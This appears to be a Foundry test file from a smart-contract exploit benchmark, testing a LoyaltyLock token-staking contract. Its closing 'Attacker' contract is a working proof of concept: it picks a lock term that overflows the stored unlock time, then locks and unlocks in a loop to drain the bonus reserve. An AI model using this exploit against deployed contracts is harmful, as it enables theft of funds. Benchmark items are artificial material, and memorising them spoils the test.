// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./LoyaltyLock.sol";

// assay-canary-f8ea873f-c2f3-4330-86a1-ee5d4b36f3b1

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_790_000_000;

    Token public token;
    LoyaltyLock public club;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        club = new LoyaltyLock(token);
        token.mint(address(this), 10_000e18);
        token.approve(address(club), 10_000e18);
        club.fund(6_000e18);
        token.mint(ANA, 5_000e18);
        vm.startPrank(ANA);
        token.approve(address(club), 5_000e18);
        club.lock(2_000e18, 365 days);
        vm.stopPrank();
        mallory = new Attacker(club);
        token.mint(address(mallory), 1_000e18);
    }

    function test_Regular() public {
        require(token.balanceOf(ANA) == 3_200e18 && club.reserve() == 5_800e18, "a tenth at once");
        vm.startPrank(ANA);
        uint256 id = club.lock(1_000e18, 365 days);
        require(id == 1 && club.count() == 2 && token.balanceOf(ANA) == 2_300e18, "a tenth");
        club.extend(id, 365 days);
        require(token.balanceOf(ANA) == 2_400e18, "extended");
        (address holder, uint40 until, uint128 amount) = club.positions(id);
        require(holder == ANA && until == START + 730 days && amount == 1_000e18, "stored");
        require(club.bonusOf(1_000e18, 1_460 days) == 200e18, "a fifth at most");
        club.give(id, BEN);
        vm.warp(START + 365 days);
        club.unlock(0);
        require(token.balanceOf(ANA) == 4_400e18, "unlocked");
        vm.stopPrank();
        vm.warp(START + 2_000 days);
        vm.startPrank(BEN);
        club.extend(id, 365 days);
        require(token.balanceOf(BEN) == 100e18, "a bonus for the new term");
        vm.warp(START + 2_365 days);
        club.unlock(id);
        require(token.balanceOf(BEN) == 1_100e18, "unlocked by the new holder");
        vm.stopPrank();
        club.unfund(1_000e18);
        require(club.reserve() == 4_500e18 && token.balanceOf(address(this)) == 5_000e18, "back to the owner");
        club.transferOwnership(ANA);
        vm.prank(ANA);
        club.acceptOwnership();
        vm.prank(ANA);
        club.renounceOwnership();
    }

    function stranger() private {
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
    }

    function test_RefusesStrangers() public {
        stranger();
        club.fund(1);
        stranger();
        club.unfund(1);
        vm.expectRevert(abi.encodeWithSelector(LoyaltyLock.NotHolder.selector, 0));
        club.extend(0, 30 days);
        vm.expectRevert(abi.encodeWithSelector(LoyaltyLock.NotHolder.selector, 0));
        club.give(0, BEN);
        vm.warp(START + 365 days);
        vm.expectRevert(abi.encodeWithSelector(LoyaltyLock.NotHolder.selector, 0));
        club.unlock(0);
    }

    function test_RefusesHolders() public {
        vm.expectRevert("no token");
        new LoyaltyLock(IERC20(address(0)));
        vm.startPrank(ANA);
        vm.expectRevert("nothing to lock");
        club.lock(0, 30 days);
        vm.expectRevert("term too short");
        club.lock(1, 30 days - 1);
        vm.expectRevert("term too short");
        club.extend(0, 30 days - 1);
        vm.expectRevert("too far ahead");
        club.extend(0, 366 days);
        vm.expectRevert("no one");
        club.give(0, address(0));
        vm.warp(START + 365 days - 1);
        vm.expectRevert(abi.encodeWithSelector(LoyaltyLock.Locked.selector, uint40(START + 365 days)));
        club.unlock(0);
        vm.stopPrank();
        club.unfund(5_790e18);
        vm.prank(ANA);
        vm.expectRevert("reserve is too small");
        club.lock(1_000e18, 365 days);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 5_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(club);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    LoyaltyLock private club;

    constructor(LoyaltyLock _club) {
        club = _club;
    }

    function run() external {
        club.token().approve(address(club), type(uint256).max);
        uint256 term = 2 ** 40 - block.timestamp;
        for (uint256 i = 0; i < 25; ++i) {
            club.unlock(club.lock(1_000e18, term));
        }
    }
}
